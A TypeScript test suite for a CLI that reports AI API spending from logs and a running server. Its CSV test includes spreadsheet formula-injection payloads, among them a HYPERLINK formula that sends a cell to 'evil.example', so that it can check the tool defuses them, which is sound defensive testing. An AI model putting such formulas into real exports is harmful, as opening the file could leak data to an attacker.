import { execFileSync, spawn, spawnSync } from 'node:child_process'
import { cpSync, existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { compact } from '../../src/main/cli/output'
import { keyHash, makeCall } from '../dashboard/seed'
import { startLedger } from '../support/cli'
import { fixture } from '../support/fixtures'
import { postJson } from '../support/http'
import { type MockUpstream, startMockUpstream } from '../support/mock-upstream'
import { type TestServer, startTestServer } from '../support/server'

const ROOT = resolve(__dirname, '../..')
const CLI = join(ROOT, 'out/main/cli.js')
const LOGS = resolve(__dirname, '../fixtures/agent-logs')

let dir: string
let env: NodeJS.ProcessEnv

beforeAll(() => {
  if (!existsSync(CLI)) execFileSync('npx', ['electron-vite', 'build'], { cwd: ROOT, stdio: 'ignore' })
  // A fresh install on a machine that has used Claude Code: its logs exist, Burnrate's ledger does not.
  dir = mkdtempSync(join(tmpdir(), 'burnrate-cli-report-'))
  mkdirSync(join(dir, 'home'))
  cpSync(join(LOGS, 'claude-code'), join(dir, 'home/.claude'), { recursive: true })
  env = { HOME: join(dir, 'home'), XDG_CONFIG_HOME: join(dir, 'home/.config'), XDG_DATA_HOME: join(dir, 'home/.local/share'), CLAUDE_CONFIG_DIR: '', CODEX_HOME: '', TZ: 'UTC' }
})
afterAll(() => rmSync(dir, { recursive: true, force: true }))

function burnrate(args: string[], extra: NodeJS.ProcessEnv = {}) {
  const r = spawnSync(process.execPath, [CLI, ...args], {
    env: { ...process.env, ...env, BURNRATE_PORT: '1', ...extra },
    encoding: 'utf8',
    timeout: 60_000,
  })
  return { code: r.status, stdout: r.stdout, stderr: r.stderr }
}

describe('burnrate report on a fresh install', () => {
  it('`report daily` shows the Claude Code history from its logs, in 80 columns, without colour codes when piped', () => {
    // The default data folder (XDG_CONFIG_HOME's Burnrate): a named one that does not exist is a typo, refused.
    const r = burnrate(['report', 'daily'])
    expect(r.code, r.stderr).toBe(0)
    expect(existsSync(join(dir, 'home/.config/Burnrate', 'burnrate.db'))).toBe(true)
    expect(r.stderr).toContain('imported 3 calls')
    expect(r.stdout).toContain('2026-11-20')
    expect(r.stdout).toContain('2026-11-21')
    expect(r.stdout).toMatch(/Total\s.*│\s+3\s/)
    expect(r.stdout).not.toContain('\x1b[')
    for (const line of r.stdout.split('\n')) expect(line.length).toBeLessThanOrEqual(80)
  })

  it('`--json` is the same history, and asking again imports nothing twice', () => {
    const data = join(dir, 'home/.config/Burnrate')
    const a = JSON.parse(burnrate(['report', 'daily', '--json', '--data-dir', data]).stdout)
    expect(a.rows.map((x: any) => [x.key, x.requests])).toEqual([['2026-11-20', 2], ['2026-11-21', 1]])
    expect(a.totals.imported).toBe(3)
    expect(a.totals.cost_usd).toBeGreaterThan(0)
    const again = burnrate(['report', 'project', '--json', '--data-dir', data])
    expect(again.stderr).not.toContain('imported')
    expect(JSON.parse(again.stdout).rows).toMatchObject([{ key: '/home/dev/shop', requests: 3 }])
    const csv = burnrate(['report', 'model', '--csv', '--data-dir', data]).stdout.split('\r\n')
    expect(csv[0]).toBe('key,requests,input_tokens,output_tokens,cache_read_tokens,cache_write_tokens,cost_usd,imported,models,provider,unpriced_requests')
    expect(csv).toHaveLength(4)
  })

  it('--limit lists the costliest rows and says how many there are; --all lists every one', () => {
    const data = join(dir, 'home/.config/Burnrate')
    const full = JSON.parse(burnrate(['report', 'model', '--json', '--data-dir', data]).stdout)
    expect(full.rows.length).toBeGreaterThan(1)
    expect(full.total_rows).toBe(full.rows.length)
    const one = burnrate(['report', 'model', '--limit', '1', '--data-dir', data])
    expect(one.code, one.stderr).toBe(0)
    expect(one.stdout).toContain(`The costliest 1 of ${full.rows.length} models listed; the totals are of all.\n--limit n or --all lists more.`)
    const csv = burnrate(['report', 'model', '--limit', '1', '--csv', '--data-dir', data])
    expect(csv.stdout.trim().split('\r\n')).toHaveLength(2)
    expect(csv.stderr).toContain(`the costliest 1 of ${full.rows.length} models (--all for every one)`)
    for (const line of one.stdout.split('\n')) expect(line.length).toBeLessThanOrEqual(80)
    expect(JSON.parse(burnrate(['report', 'model', '--limit', '1', '--json', '--data-dir', data]).stdout).rows).toEqual([full.rows[0]])
    expect(JSON.parse(burnrate(['report', 'model', '--all', '--json', '--data-dir', data]).stdout).rows).toEqual(full.rows)
    for (const bad of [['daily', '--limit', '5'], ['model', '--limit', '0'], ['model', '--limit', '1', '--all']]) {
      const r = burnrate(['report', ...bad, '--data-dir', data])
      expect(r.code, bad.join(' ')).toBe(2)
      expect(r.stderr.trim().split('\n')).toHaveLength(1)
    }
  })

  it('--since and --until bound the window by day', () => {
    const r = JSON.parse(burnrate(['report', 'daily', '--json', '--since', '2026-11-21', '--until', '2026-11-21', '--data-dir', join(dir, 'home/.config/Burnrate')]).stdout)
    expect(r.rows.map((x: any) => x.key)).toEqual(['2026-11-21'])
  })

  it('status and export read the same ledger', () => {
    const data = join(dir, 'home/.config/Burnrate')
    const s = JSON.parse(burnrate(['status', '--json', '--data-dir', data]).stdout)
    expect(s.ledger.calls).toBe(3)
    const csv = burnrate(['export', '--data-dir', data]).stdout.trim().split('\r\n')
    expect(csv[0].startsWith('id,t,provider,model')).toBe(true)
    expect(csv).toHaveLength(4)
    expect(csv[1]).toContain(',import,')
  })

  for (const tz of ['Asia/Tokyo', 'UTC', 'America/New_York']) {
    it(`the heading names the days asked for, in the configured zone (${tz})`, () => {
      // The window's ends are UTC instants, `until` the next midnight: the heading once showed
      // "2026-02-28 to 2026-03-31" in Tokyo and "2026-03-01 to 2026-04-01" in UTC for March.
      const name = tz.replace('/', '-')
      const cfg = join(dir, `${name}.yaml`)
      writeFileSync(cfg, `timezone: ${tz}\npricing: { auto_update: false }\n`)
      startLedger(join(dir, `heading-${name}`)) // a data folder named that holds no ledger is refused
      const r = burnrate(['report', 'daily', '--no-import', '--config', cfg, '--data-dir', join(dir, `heading-${name}`), '--since', '2026-03-01', '--until', '2026-03-31'])
      expect(r.code, r.stderr).toBe(0)
      expect(r.stdout).toContain(`(2026-03-01 to 2026-03-31, ${tz})`)
      const day = burnrate(['report', 'daily', '--no-import', '--config', cfg, '--data-dir', join(dir, `heading-${name}`), '--since', '2026-11-21', '--until', '2026-11-21'])
      expect(day.stdout).toContain(`(2026-11-21 to 2026-11-21, ${tz})`)
    })
  }

  it('bad usage exits 2, a missing folder exits 1, each with one message', () => {
    expect(burnrate(['report', 'hourly']).code).toBe(2)
    expect(burnrate(['report', 'daily', '--since', 'yesterday', '--data-dir', join(dir, 'home/.config/Burnrate')]).code).toBe(2)
    const m = burnrate(['import', 'codex', '--path', join(dir, 'nope'), '--data-dir', join(dir, 'home/.config/Burnrate')])
    expect(m.code).toBe(1)
    expect(m.stderr).toContain('no such folder')
  })
})

/** The same, without blocking this process (whose server must answer meanwhile). */
function burnrateAsync(args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((done) => {
    const c = spawn(process.execPath, [CLI, ...args], { env: { ...process.env, ...env, BURNRATE_PORT: '1' } })
    let stdout = ''
    let stderr = ''
    c.stdout.on('data', (d) => (stdout += d))
    c.stderr.on('data', (d) => (stderr += d))
    c.on('close', (code) => done({ code, stdout, stderr }))
  })
}

describe('burnrate report against a running Burnrate', () => {
  let upstream: MockUpstream
  let t: TestServer
  beforeAll(async () => {
    upstream = await startMockUpstream(() => ({ status: 200, headers: { 'content-type': 'application/json' }, body: fixture('anthropic/messages-nonstream-basic.json') }))
    t = await startTestServer({ dashboard: { token: 'dash-secret-token' } }, upstream.url)
    await postJson(`${t.url}/anthropic/v1/messages`, { model: 'claude-sonnet-4-5', messages: [] }, { 'x-api-key': 'sk-ant-test-000000000001' })
  })
  afterAll(async () => {
    await t.cleanup()
    await upstream.close()
  })

  it('asks the server over HTTP with its dashboard token, and says so when the token is wrong', async () => {
    const ok = await burnrateAsync(['report', 'model', '--json', '--url', t.url, '--token', 'dash-secret-token', '--data-dir', join(dir, 'elsewhere')])
    expect(ok.code, ok.stderr).toBe(0)
    expect(JSON.parse(ok.stdout).rows).toMatchObject([{ key: 'claude-sonnet-4-5-20250929', provider: 'anthropic', requests: 1, imported: 0 }])
    const bad = await burnrateAsync(['report', 'model', '--url', t.url, '--token', 'wrong', '--data-dir', join(dir, 'elsewhere')])
    expect(bad.code).toBe(1)
    expect(bad.stderr).toContain('refused the dashboard token')
    const st = await burnrateAsync(['status', '--json', '--url', t.url, '--token', 'dash-secret-token', '--data-dir', join(dir, 'elsewhere')])
    expect(JSON.parse(st.stdout).summary.today_requests).toBe(1)
  })
})

describe('status and export against a running Burnrate, for a tenant and over any clock', () => {
  let t: TestServer
  const now = Date.now()
  const elsewhere = () => ['--config', t.configFile, '--data-dir', t.dir]
  beforeAll(async () => {
    t = await startTestServer({ timezone: 'UTC', budgets: { rules: [{ api_key_pattern: '*', daily_limit_usd: 10, action: 'warn' }] } })
    t.server.ledger.record(makeCall({ ts: now - 60_000, tenant: 'acme', api_key_hash: keyHash('sk-acme-000000000001'), key_hint: 'sk-…0001', cost_usd: 1 }))
    t.server.ledger.record(makeCall({ ts: now - 30_000, tenant: 'other', api_key_hash: keyHash('sk-othr-000000000002'), key_hint: 'sk-…0002', cost_usd: 7 }))
    await t.server.ledger.flushed()
  })
  afterAll(async () => {
    await t.cleanup()
  })

  it("`status --tenant` shows that tenant's spend and only its budgets", async () => {
    const r = await burnrateAsync(['status', '--tenant', 'acme', '--json', '--url', t.url, ...elsewhere()])
    expect(r.code, r.stderr).toBe(0)
    const s = JSON.parse(r.stdout)
    expect(s.summary.today_spend_usd).toBeCloseTo(1, 12)
    // It listed the other tenant's key ($7 of $10) too.
    expect(s.budgets.map((b: any) => b.key_hint)).toEqual(['sk-…0001'])
    const all = JSON.parse((await burnrateAsync(['status', '--json', '--url', t.url, ...elsewhere()])).stdout)
    expect(all.budgets.map((b: any) => b.key_hint).sort()).toEqual(['sk-…0001', 'sk-…0002'])
  })

  it('`export` over HTTP has the calls stamped after the server\'s now, as --local has', async () => {
    // A team member whose clock runs an hour ahead: its call is stored with that time (HTTP left it out).
    t.server.ledger.record(makeCall({ ts: now + 3_600_000, tenant: 'acme', cost_usd: 2 }))
    await t.server.ledger.flushed()
    const http = await burnrateAsync(['export', '--format', 'json', '--url', t.url, ...elsewhere()])
    const local = await burnrateAsync(['export', '--format', 'json', '--local', ...elsewhere()])
    expect(http.code, http.stderr).toBe(0)
    expect(local.code, local.stderr).toBe(0)
    expect(JSON.parse(http.stdout).calls.map((c: any) => c.cost_usd)).toEqual([1, 7, 2])
    expect(JSON.parse(http.stdout)).toEqual(JSON.parse(local.stdout))
    // An `until` still bounds it.
    const bounded = await burnrateAsync(['export', '--format', 'json', '--until', new Date(now).toISOString(), '--url', t.url, ...elsewhere()])
    expect(JSON.parse(bounded.stdout).calls.map((c: any) => c.cost_usd)).toEqual([1, 7])
  })

  it('`report --csv` defuses the formulas a caller can put in a session, agent or project name, as the export does', async () => {
    const names = ['=2+5', '@SUM(1+1)', '-3+4', '=HYPERLINK("http://evil.example/?"&A1;"click")']
    for (const [i, n] of names.entries()) t.server.ledger.record(makeCall({ ts: now - 10_000 + i, session: n, agent: n, project: n, cost_usd: 0.5 }))
    await t.server.ledger.flushed()
    for (const kind of ['session', 'agent', 'project']) {
      for (const where of [['--url', t.url], ['--local']]) {
        const r = await burnrateAsync(['report', kind, '--csv', '--all', ...where, ...elsewhere()])
        expect(r.code, r.stderr).toBe(0)
        const cells = r.stdout.split('\r\n').slice(1).map((l) => l.split(',')[0])
        expect(cells).toEqual(expect.arrayContaining(["'=2+5", "'@SUM(1+1)", "'-3+4", '"\'=HYPERLINK(""http://evil.example/?""&A1;""click"")"']))
        for (const line of r.stdout.split('\r\n')) expect(line).not.toMatch(/(^|,)[=+@-]/)
      }
    }
  })
})

describe('compact token counts', () => {
  it('are rounded before the unit is chosen: 999,950 is 1.0M, not "1000k"', () => {
    expect(compact(999)).toBe('999')
    expect(compact(1234)).toBe('1.2k')
    expect(compact(99_950)).toBe('100k')
    expect(compact(999_499)).toBe('999k')
    expect(compact(999_950)).toBe('1.0M')
    expect(compact(5_600_000)).toBe('5.6M')
    expect(compact(999_999_999)).toBe('1.0B')
    expect(compact(1.5e12)).toBe('1500B')
  })
})
